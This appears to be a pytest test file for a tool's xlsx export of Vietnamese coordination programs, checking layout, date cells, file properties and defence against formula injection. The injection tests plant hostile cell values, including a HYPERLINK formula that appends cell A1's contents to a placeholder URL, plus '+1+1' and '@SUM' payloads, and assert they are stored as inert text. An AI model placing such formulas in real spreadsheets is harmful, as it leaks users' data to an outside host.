"""The xlsx format, as coordprog finds it through its entry point."""

import datetime as dt
import io
import re
import zipfile
from pathlib import Path

import attrs
import openpyxl
import pytest
from openpyxl.worksheet.worksheet import Worksheet

import coordprog
from coordprog import examples
from coordprog.testing import LibreOffice


def _sheet(output: coordprog.Output) -> Worksheet:
    assert (True, ".xlsx") == (output.binary, output.suffix)
    sheet = openpyxl.load_workbook(io.BytesIO(output.content)).active
    assert isinstance(sheet, Worksheet)
    return sheet


def test_found_through_entry_point() -> None:
    formats = {f.name: f for f in coordprog.formats()}
    assert formats["xlsx"].plugin == "xlsx"
    assert set(formats["xlsx"].shapes) == {"table", "calendar"}


def test_matrix_sheet(coordprog_binh_thuan: coordprog.Program) -> None:
    """Title, caption, a frozen and filtered header, one row per task, Vietnamese intact."""
    sheet = _sheet(coordprog.render_output(coordprog_binh_thuan, "matrix", "xlsx"))
    assert sheet["A1"].value.startswith("Ma trận trách nhiệm: Chương trình phối hợp")
    assert [c.value for c in sheet[3]][:3] == ["Mã", "Mục", "Nhiệm vụ"]
    assert sheet.freeze_panes == "A4"
    assert sheet.auto_filter.ref == f"A3:J{3 + 25}"
    task = coordprog_binh_thuan.tasks[0]
    assert [sheet["A4"].value, sheet["C4"].value, sheet["E4"].value] == [
        task.id,
        task.text,
        "chủ trì",
    ]
    widths = {letter: sheet.column_dimensions[letter].width for letter in "ABCD"}
    assert widths["C"] == max(widths.values())  # the task text gets the room
    assert sheet["C4"].alignment.wrap_text
    height = sheet.row_dimensions[4].height
    assert height is not None
    assert height >= 3 * 15  # a long task wraps to several lines, and its row grows
    assert sheet.print_title_rows == "$3:$3"
    assert sheet.page_setup.orientation == "landscape"


def test_schedule_dates_are_dates(coordprog_binh_thuan: coordprog.Program) -> None:
    sheet = _sheet(coordprog.render_output(coordprog_binh_thuan, "schedule", "xlsx"))
    assert [c.value for c in sheet[2]][:3] == ["Hạn", "Loại", "Sự kiện"]
    first = coordprog.schedule(coordprog_binh_thuan)[0]
    assert sheet["A3"].value.date() == first.due
    assert sheet["A3"].number_format == "dd/mm/yyyy"
    assert sheet["B3"].value == "kế hoạch phối hợp hàng năm"


def test_text_is_never_a_formula(coordprog_binh_thuan: coordprog.Program) -> None:
    """A task text starting with "=" is stored as text; a spreadsheet will not run it."""
    group = coordprog_binh_thuan.task_groups[0].groups[0]
    tasks = (attrs.evolve(group.tasks[0], text='=HYPERLINK("http://x","y")'), *group.tasks[1:])
    top = attrs.evolve(
        coordprog_binh_thuan.task_groups[0],
        groups=(attrs.evolve(group, tasks=tasks), *coordprog_binh_thuan.task_groups[0].groups[1:]),
    )
    program = attrs.evolve(
        coordprog_binh_thuan, task_groups=(top, *coordprog_binh_thuan.task_groups[1:])
    )
    sheet = _sheet(coordprog.render_output(program, "matrix", "xlsx"))
    assert sheet["C4"].value == '=HYPERLINK("http://x","y")'
    assert sheet["C4"].data_type == "s"


def test_documents_are_not_spreadsheets(coordprog_binh_thuan: coordprog.Program) -> None:
    with pytest.raises(coordprog.RenderError, match="cannot render a document"):
        coordprog.render_output(coordprog_binh_thuan, "program", "xlsx")


def test_workbooks_open_in_libreoffice(
    coordprog_binh_thuan: coordprog.Program, tmp_path: Path, coordprog_libreoffice: LibreOffice
) -> None:
    """The matrix and the schedule open in LibreOffice Calc and print (CI installs it)."""
    sources = []
    for report in ("matrix", "schedule"):
        source = tmp_path / f"{report}.xlsx"
        source.write_bytes(coordprog.render_output(coordprog_binh_thuan, report, "xlsx").content)
        sources.append(source)
    for source, pdf in zip(sources, coordprog_libreoffice.convert(sources, tmp_path), strict=True):
        assert pdf.is_file(), f"LibreOffice could not open {source.name}"
        assert re.search(rb"/Type\s*/Page\b", pdf.read_bytes())


HOSTILE = '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")'


def _hostile_program(program: coordprog.Program) -> coordprog.Program:
    """The example with a party's short name, the title and a task that a spreadsheet would run."""
    party = attrs.evolve(program.parties[0], short_name=HOSTILE)
    group = program.task_groups[0].groups[0]
    tasks = (attrs.evolve(group.tasks[0], text="+1+1"), *group.tasks[1:])
    top = attrs.evolve(
        program.task_groups[0],
        groups=(attrs.evolve(group, tasks=tasks), *program.task_groups[0].groups[1:]),
    )
    return attrs.evolve(
        program,
        title="@SUM(1+1) " + program.heading,
        parties=(party, *program.parties[1:]),
        task_groups=(top, *program.task_groups[1:]),
    )


class TestFormulaInjection:
    """Whatever a program's data holds reaches a workbook as text, never as a formula."""

    def test_every_cell_is_text(self, coordprog_binh_thuan: coordprog.Program) -> None:
        """The matrix header (a party's short name), the title and a task text: all strings."""
        sheet = _sheet(
            coordprog.render_output(_hostile_program(coordprog_binh_thuan), "matrix", "xlsx")
        )
        header = [c for c in sheet[3] if c.value == HOSTILE]
        assert 1 == len(header)
        assert ("s", "s", "s") == (
            header[0].data_type,
            sheet["A1"].data_type,
            sheet["C4"].data_type,
        )
        assert sheet["A1"].value.startswith("Ma trận trách nhiệm: Chương trình @SUM(1+1)")
        assert "+1+1" == sheet["C4"].value

    def test_the_file_holds_no_formula(self, coordprog_binh_thuan: coordprog.Program) -> None:
        """No <f> element in the sheet's XML: nothing for a spreadsheet to evaluate."""
        data = coordprog.render_output(_hostile_program(coordprog_binh_thuan), "matrix", "xlsx")
        sheet = zipfile.ZipFile(io.BytesIO(data.content)).read("xl/worksheets/sheet1.xml")
        assert b"<f>" not in sheet
        assert b"<f " not in sheet

    def test_libreoffice_shows_the_text(
        self,
        coordprog_binh_thuan: coordprog.Program,
        tmp_path: Path,
        coordprog_libreoffice: LibreOffice,
    ) -> None:
        """Opened in LibreOffice Calc, the header shows the text as written, not a link."""
        source = tmp_path / "matrix.xlsx"
        source.write_bytes(
            coordprog.render_output(
                _hostile_program(coordprog_binh_thuan), "matrix", "xlsx"
            ).content
        )
        pdf = coordprog_libreoffice.convert([source], tmp_path)[0]
        shown = "".join("".join(coordprog_libreoffice.pages(pdf)).split())
        # The formula's own text is printed (a formula would print its result, "Bấm vào đây").
        assert '=HYPERLINK("http://example.invalid/?x="&A1' in shown


class TestDates:
    """Dates are date cells, in one style per language, in every sheet."""

    def test_the_status_deadline_is_a_date(self, coordprog_binh_thuan: coordprog.Program) -> None:
        """The status table's "Hạn" column holds dates shown dd/mm/yyyy.

        The records are illustrative: a notice says so on row 2, above the
        caption and the header.
        """
        data = coordprog.render_output(
            coordprog_binh_thuan,
            "status",
            "xlsx",
            options={"as_of": "2024-08-15"},
            records=examples.records("binh-thuan"),
        )
        sheet = _sheet(data)
        assert str(sheet["A2"].value).startswith("Lưu ý: Hồ sơ thực hiện")
        assert "Hạn" == sheet["D4"].value
        assert dt.datetime(2024, 6, 30) == sheet["D5"].value
        assert "dd/mm/yyyy" == sheet["D5"].number_format

    @pytest.mark.parametrize(
        ("report", "options"),
        [
            ("schedule", {}),
            ("status", {"as_of": "2024-08-15"}),
            ("status-calendar", {"as_of": "2024-08-15"}),
        ],
    )
    def test_no_date_is_written_as_text(
        self, coordprog_binh_thuan: coordprog.Program, report: str, options: dict[str, str]
    ) -> None:
        """Every date of a table or calendar is a date cell: no cell holds a date as text."""
        data = coordprog.render_output(
            coordprog_binh_thuan,
            report,
            "xlsx",
            options=options,
            records=examples.records("binh-thuan") if "as_of" in options else None,
        )
        sheet = _sheet(data)
        looks_like_a_date = re.compile(r"\d{4}-\d{2}-\d{2}|\d{2}/\d{2}/\d{4}")
        cells = [cell for row in sheet.iter_rows() for cell in row]
        as_text = [
            cell.coordinate
            for cell in cells
            if isinstance(cell.value, str) and looks_like_a_date.fullmatch(cell.value.strip())
        ]
        assert [] == as_text
        assert any(isinstance(cell.value, dt.datetime) for cell in cells)

    def test_an_english_sheet_shows_iso_dates(
        self, coordprog_binh_thuan: coordprog.Program
    ) -> None:
        """lang=en: the same dates, shown yyyy-mm-dd."""
        sheet = _sheet(
            coordprog.render_output(
                coordprog_binh_thuan, "schedule", "xlsx", options={"lang": "en"}
            )
        )
        assert "yyyy-mm-dd" == sheet["A3"].number_format

    def test_the_status_calendar_keeps_the_kind_beside_the_state(
        self, coordprog_binh_thuan: coordprog.Program
    ) -> None:
        """Kind and state each have a column: a plan and a review can be told apart."""
        data = coordprog.render_output(
            coordprog_binh_thuan,
            "status-calendar",
            "xlsx",
            options={"as_of": "2024-08-15"},
            records=examples.records("binh-thuan"),
        )
        sheet = _sheet(data)
        assert ["Hạn", "Loại", "Tình trạng", "Sự kiện"] == [c.value for c in sheet[3]][:4]
        assert "kế hoạch phối hợp hàng năm" == sheet["B4"].value
        assert "Đã thực hiện đúng hạn" == sheet["C4"].value


class TestFileProperties:
    """The workbook's properties: its title and language, no author and no date it was not given."""

    def test_properties(self, coordprog_binh_thuan: coordprog.Program) -> None:
        data = coordprog.render_output(coordprog_binh_thuan, "matrix", "xlsx").content
        core = zipfile.ZipFile(io.BytesIO(data)).read("docProps/core.xml").decode("utf-8")
        assert ">vi-VN</dc:language>" in core
        assert "Ma trận trách nhiệm" in core
        assert "openpyxl" not in core
        assert "dcterms:created" not in core
        assert "dcterms:modified" not in core
